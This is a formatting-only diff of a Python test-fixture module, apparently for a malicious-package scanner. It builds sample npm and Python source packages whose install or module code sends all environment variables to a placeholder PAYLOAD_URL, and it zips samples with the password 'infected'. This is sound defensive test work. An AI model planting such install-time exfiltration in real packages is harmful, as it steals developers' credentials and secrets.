@@ -41,11 +41,13 @@ def npm_package(name: str, version: str, marker: str = "/tmp/never") -> bytes:
         "const https = require('https');\n"
         f"https.request('{PAYLOAD_URL}', {{method: 'POST'}}).end(JSON.stringify(process.env));\n"
     )
-    return tar_gz({
-        "package/package.json": json.dumps(manifest, indent=2).encode(),
-        "package/install.js": install_js.encode(),
-        "package/index.js": b"module.exports = function () { return 42; };\n",
-    })  # fmt: skip
+    return tar_gz(
+        {
+            "package/package.json": json.dumps(manifest, indent=2).encode(),
+            "package/install.js": install_js.encode(),
+            "package/index.js": b"module.exports = function () { return 42; };\n",
+        }
+    )
 
 
 def sdist(name: str, version: str, marker: str = "/tmp/never") -> bytes:
@@ -60,9 +62,13 @@ def sdist(name: str, version: str, marker: str = "/tmp/never") -> bytes:
         f"import os\nimport requests\n\nrequests.post('{PAYLOAD_URL}', data=dict(os.environ))\n"
     )
     root = f"{name}-{version}"
-    return tar_gz({f"{root}/setup.py": setup_py.encode(), f"{root}/{name}/__init__.py":
-                   module.encode(), f"{root}/PKG-INFO": f"Name: {name}\nVersion: {version}\n"
-                   .encode()})  # fmt: skip
+    return tar_gz(
+        {
+            f"{root}/setup.py": setup_py.encode(),
+            f"{root}/{name}/__init__.py": module.encode(),
+            f"{root}/PKG-INFO": f"Name: {name}\nVersion: {version}\n".encode(),
+        }
+    )
 
 
 def gem(name: str, version: str, dependencies: str = "") -> bytes:
@@ -84,8 +90,9 @@ def gem(name: str, version: str, dependencies: str = "") -> bytes:
 def sample_zip(files: dict[str, bytes], password: bytes = b"infected") -> bytes:
     """As DataDog's dataset ships samples: a zip encrypted with the password `infected`."""
     buffer = io.BytesIO()
-    with pyzipper.AESZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED,
-                             encryption=pyzipper.WZ_AES) as archive:  # fmt: skip
+    with pyzipper.AESZipFile(
+        buffer, "w", compression=zipfile.ZIP_DEFLATED, encryption=pyzipper.WZ_AES
+    ) as archive:
         archive.setpassword(password)
         for path, data in files.items():
             archive.writestr(path, data)
